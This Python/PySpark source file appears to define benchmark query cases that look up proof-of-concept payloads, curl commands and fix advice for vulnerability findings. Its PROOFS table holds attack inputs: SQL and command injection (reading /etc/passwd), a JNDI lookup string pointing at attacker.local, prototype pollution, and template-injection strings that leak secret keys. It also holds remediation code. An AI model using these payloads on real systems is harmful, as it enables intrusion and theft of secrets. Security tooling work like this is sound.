"""Proofs, fixes and their descriptions, looked up in fixed tables by text, category, kind and language."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..registry import register
from ..sources.fixtures import read

# fixed values: proofs (payload, command, snippet) by a word of a text, looked up in this order
PROOFS = {
    "prototype pollution": ('{"__proto__": {"admin": true}}', """curl -X POST https://api.app.com -H "Content-Type: application/json" -d '{"__proto__":{"admin":true}}'""", """const _ = require("lodash");\n_.merge({}, JSON.parse('{"__proto__":{"admin":true}}'));\nconsole.log({}.admin); // true"""),
    "sql injection": ("' OR 1=1 --", "curl -X GET 'https://api.app.com/users?id=%27%20OR%201%3D1%20--'", """const userId = req.query.id;\ndb.query("SELECT * FROM users WHERE id=" + userId); // vulnerable"""),
    "command injection": ("test; cat /etc/passwd", """curl -X POST https://api.app.com/run -H "Content-Type: application/json" -d '{"cmd":"test; cat /etc/passwd"}'""", """const cmd = req.body.cmd;\nexec("echo " + cmd); // vulnerable"""),
    "auth bypass": ('{"role":"admin"}', """curl -X POST https://api.app.com/login -H "Content-Type: application/json" -d '{"role":"admin"}'""", """if (token && token.role === "admin") {\n  grantAdmin();\n} // bypass if token validation is weak"""),
    "dos": ("A" * 1_000_000, "curl -X POST https://api.app.com/parse --data-binary @large-payload.txt", "const parsed = parser.parse(untrustedInput); // may crash on crafted payload"),
    "injection": ("${jndi:ldap://attacker.local/a}", """curl -X POST https://api.app.com/ingest -H "Content-Type: text/plain" -d '${jndi:ldap://attacker.local/a}'""", "sink(untrustedInput); // injection sink reached"),
    "server-side template injection": ("{{7*7}}", "curl 'https://app.com/endpoint?name={{config.SECRET_KEY}}'", "# Test: ?name={{7*7}} returns 49 = exploitable\n# Leak secret: ?name={{config.SECRET_KEY}}"),
    "ssti": ("{{config}}", "curl 'https://app.com/endpoint?name={{config}}'", "# Jinja2 SSTI - attacker can read config, env vars, and achieve RCE"),
}
# fixed values: advice by category
RANDOM = "Replace Math.random/random with a cryptographically secure source (crypto.randomBytes in Node, secrets module in Python) for any security-relevant value."
ADVICE = {
    "SQL Injection": "Use parameterized queries or an ORM. Never concatenate user input into SQL. Pass values as bound parameters: db.query('... WHERE id = ?', [value]).",
    "Command Injection": "Never pass user input to a shell. Use an argument list with shell disabled (execFile in Node, subprocess.run([...], shell=False) in Python) and validate against an allowlist.",
    "Dynamic Code Execution (eval/exec)": "Remove eval/exec on untrusted input. Use JSON.parse for data in Node, ast.literal_eval in Python, or an explicit dispatch table for known actions.",
    "Hardcoded Secrets": "Move the value to an environment variable or a secrets manager, and rotate/revoke the exposed credential immediately - treat anything committed as compromised.",
    "Open Redirect": "Do not redirect to raw user input. Resolve the destination through an allowlist of known internal paths and fall back to a safe default.",
    "Path Traversal": "Strip directory components with basename() before joining, and confirm the resolved path stays within the intended base directory.",
    "NoSQL Injection": "Never pass a raw request object into a query. Extract and type-check individual fields, and reject query operators ($-prefixed keys) from user input.",
    "Insecure Auth Logic": "Avoid hardcoded credential comparisons. Use a vetted auth library with constant-time comparison and hashed credential verification (e.g. bcrypt.compare).",
    "Weak Random Generator Usage": RANDOM,
    "Weak Randomness Hygiene": RANDOM,
}
NO_ADVICE = "Review this finding and apply a context-appropriate secure fix before merging."
# fixed values: replacement code by kind, in node and in python, and what is said of it
CODE = {
    "sql_injection": ("db.query('SELECT * FROM table WHERE id = ?', [userInput])", "cursor.execute('SELECT * FROM table WHERE id = %s', (user_input,))", "Use parameterized queries - never build SQL strings with user input. Pass values as separate arguments to your query function."),
    "hardcoded_secret": ("process.env.SECRET_KEY", "os.environ['SECRET_KEY']", "Move credentials to environment variables. Rotate/revoke the exposed value immediately - treat it as compromised."),
    "dangerous_eval": ("JSON.parse(userInput)", "ast.literal_eval(user_input)", "Replace eval/exec with safe alternatives. Use JSON.parse() for data in Node.js, ast.literal_eval() in Python."),
    "command_injection": ("execFile(command, args, callback)  // use execFile, never exec with user input", "subprocess.run([command, arg], shell=False)", "Never pass user input directly to shell commands. Use execFile() or subprocess with shell=False and an argument list."),
    "path_traversal": ("path.join(__dirname, 'safe_base', path.basename(userInput))", "os.path.join(BASE_DIR, os.path.basename(user_input))", "Sanitize file paths with path.basename() before joining - prevents attackers from escaping your intended directory."),
}
NO_DESCRIPTION = "Review and apply the recommended security fix before merging."


def proof(text: Column, route: Column | None = None, package: Column | None = None) -> Column:
    """payload, command and snippet of the first word that a text holds; null without any.

    A route turns the command into a call of it; a package takes the place of the one in the snippet.
    """
    low, found = F.lower(F.coalesce(text, F.lit(""))), F.lit(None)
    for word, (payload, command, snippet) in reversed(PROOFS.items()):
        given = F.repeat(F.lit(payload[0]), len(payload)) if len(set(payload)) == 1 else F.lit(payload)
        call, code = F.lit(command), F.lit(snippet)
        if route is not None:
            parts = F.split(F.trim(route), " ", 2)
            call = F.when(F.size(parts) == 2, F.concat(F.lit("curl -X "), F.upper(parts[0]), F.lit(" https://api.app.com"), parts[1])).otherwise(call)
        if package is not None and "lodash" in snippet:
            code = F.when(F.coalesce(package, F.lit("")) != "", F.replace(code, F.lit("lodash"), package)).otherwise(code)
        found = F.when(F.contains(low, F.lit(word)), F.struct(given.alias("payload"), call.alias("command"), code.alias("snippet"))).otherwise(found)
    return found


def _looked_up(table: dict[str, str], key: Column, default: str | None) -> Column:
    return F.coalesce(F.element_at(F.create_map(*[F.lit(x) for kv in table.items() for x in kv]), key), F.lit(default))


def advice(category: Column) -> Column:
    return _looked_up(ADVICE, F.trim(F.coalesce(category, F.lit(""))), NO_ADVICE)


def fix_code(kind: Column, language: Column) -> Column:
    """Replacement code in the language, else that of node; null of an unknown kind."""
    python = F.when(language == "python", _looked_up({k: v[1] for k, v in CODE.items()}, kind, None))
    return F.coalesce(python, _looked_up({k: v[0] for k, v in CODE.items()}, kind, None))


def fix_description(kind: Column) -> Column:
    return _looked_up({k: v[2] for k, v in CODE.items()}, kind, NO_DESCRIPTION)


# texts of a finding: each word, words in other words, several words, and none
_TEXTS = ["Prototype Pollution in merge", "SQL Injection", "NoSQL injection", "OS Command Injection here", "dosage and dos", "Server-Side Template Injection", "SSTI", "auth bypass by sql injection", "XSS", ""]
_ROUTES = ["GET /users", "post /a b", "", "broken"]


def _texts(spark: SparkSession, d: str) -> DataFrame:
    pick = lambda xs, i: F.element_at(F.array(*[F.lit(x) for x in xs]), (i % len(xs) + 1).cast("int"))
    k = F.col("o_orderkey")
    kinds = [*CODE, "other"]
    return read(spark, d, "orders").select("o_orderkey", pick(_TEXTS, k).alias("text"), pick(_ROUTES, F.floor(k / 8)).alias("route"), pick([*ADVICE, " SQL Injection ", "Other"], k).alias("category"), pick(kinds, k).alias("kind"), pick(["node", "python", "go"], F.floor(k / 4)).alias("language"))


_quoted = lambda x: "'" + x.replace("'", "''") + "'"
_pick = lambda xs, i: "[" + ", ".join(map(_quoted, xs)) + f"][(({i}) % {len(xs)})::INT + 1]"
_X = f"x AS (SELECT o_orderkey, {_pick(_TEXTS, 'o_orderkey')} AS text, {_pick(_ROUTES, 'o_orderkey // 8')} AS route, {_pick([*ADVICE, ' SQL Injection ', 'Other'], 'o_orderkey')} AS category, {_pick([*CODE, 'other'], 'o_orderkey')} AS kind, {_pick(['node', 'python', 'go'], 'o_orderkey // 4')} AS language FROM orders)"
_P = "p(nth, word, n, command, snippet) AS (VALUES " + ", ".join(f"({n}, {_quoted(w)}, {len(a)}, {_quoted(b)}, {_quoted(c)})" for n, (w, (a, b, c)) in enumerate(PROOFS.items())) + ")"
register("c16_poc_template", lambda s, d: _texts(s, d).select("o_orderkey", proof(F.col("text"), F.col("route")).alias("p")).select("o_orderkey", F.length("p.payload").alias("n"), "p.command", "p.snippet"), f"WITH {_X}, {_P} SELECT o_orderkey, n, CASE WHEN n IS NULL THEN NULL WHEN strpos(route, ' ') > 0 THEN 'curl -X ' || upper(left(route, strpos(route, ' ') - 1)) || ' https://api.app.com' || substr(route, strpos(route, ' ') + 1) ELSE command END AS command, snippet FROM x LEFT JOIN p ON contains(lower(text), word) QUALIFY row_number() OVER (PARTITION BY o_orderkey ORDER BY nth) = 1")
register("c17_fix_guidance", lambda s, d: _texts(s, d).select("o_orderkey", advice(F.col("category")).alias("advice")), f"WITH {_X}, t(category, advice) AS (VALUES {', '.join(f'({_quoted(k)}, {_quoted(v)})' for k, v in ADVICE.items())}) SELECT o_orderkey, coalesce(advice, {_quoted(NO_ADVICE)}) AS advice FROM x LEFT JOIN t ON trim(x.category) = t.category")
register("c18_fix_code", lambda s, d: _texts(s, d).select("o_orderkey", fix_code(F.col("kind"), F.col("language")).alias("code"), fix_description(F.col("kind")).alias("description")), f"WITH {_X}, t(kind, node, python, description) AS (VALUES {', '.join('(' + ', '.join(map(_quoted, (k, *v))) + ')' for k, v in CODE.items())}) SELECT o_orderkey, if(language = 'python', python, node) AS code, coalesce(description, {_quoted(NO_DESCRIPTION)}) AS description FROM x LEFT JOIN t USING (kind)")
